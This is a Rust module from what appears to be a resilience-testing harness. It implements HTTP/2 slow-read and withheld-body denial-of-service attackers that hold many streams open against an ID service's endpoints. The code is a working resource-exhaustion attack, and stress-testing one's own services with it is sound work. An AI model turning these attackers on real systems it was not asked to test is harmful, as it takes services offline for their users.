//! HTTP/2 attackers that keep requests open. They request long responses with a tiny flow-control
//! window, or announce bodies and never send them.

use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::aim::Aim;
use super::attacker::{Attacker, COME_AGAIN};
use super::frames::{post, post_without_its_body, window_update};

pub(super) const CONNECTIONS: usize = 60;
pub(super) const STREAMS: u32 = 100;
const LONG_ANSWER: &str = "/ids/snowflake?count=100000";

fn streams() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|stream| 2 * stream + 1)
}

async fn ask_on_all_streams(attacker: &mut Attacker) -> bool {
    let requests: Vec<u8> = streams()
        .flat_map(|stream| post(stream, LONG_ANSWER))
        .collect();
    let is_sent = attacker.send_frames(STREAMS as usize, &requests).await;
    attacker
        .deeds
        .requests
        .add(if is_sent { STREAMS as usize } else { 0 });
    is_sent
}

pub(crate) fn none(aim: &Aim) -> JoinSet<()> {
    aim.attackers(CONNECTIONS, |aim, number| async move {
        loop {
            let mut attacker = Attacker::connect_http2(&aim, number, 0).await;
            if ask_on_all_streams(&mut attacker).await {
                attacker.read_frames().await;
            }
            sleep(COME_AGAIN).await;
        }
    })
}

/// Enlarges the window of each stream by one byte over and over, so that every stream keeps
/// sending.
pub(crate) fn of_one_byte(aim: &Aim) -> JoinSet<()> {
    const BETWEEN: Duration = Duration::from_millis(200);
    let updates: Vec<u8> = streams()
        .flat_map(|stream| window_update(stream, 1))
        .collect();
    aim.attackers(CONNECTIONS, move |aim, number| {
        let updates = updates.clone();
        async move {
            loop {
                let mut attacker = Attacker::connect_http2(&aim, number, 1).await;
                let mut goes_on = ask_on_all_streams(&mut attacker).await;
                while goes_on {
                    goes_on = timeout(BETWEEN, attacker.read_frames()).await.is_err()
                        && attacker.send_frames(STREAMS as usize, &updates).await;
                }
                sleep(COME_AGAIN).await;
            }
        }
    })
}

/// Opens more requests than the service handles at the same time. None of these requests ever
/// completes.
pub(crate) fn without_bodies(aim: &Aim) -> JoinSet<()> {
    let requests: Vec<u8> = streams()
        .flat_map(|stream| post_without_its_body(stream, "/ids/payment"))
        .collect();
    aim.attackers(CONNECTIONS, move |aim, number| {
        let requests = requests.clone();
        async move {
            loop {
                let mut attacker = Attacker::connect_http2(&aim, number, 65_535).await;
                if attacker.send_frames(STREAMS as usize, &requests).await {
                    attacker.deeds.requests.add(STREAMS as usize);
                    attacker.read_frames().await;
                }
                sleep(COME_AGAIN).await;
            }
        }
    })
}
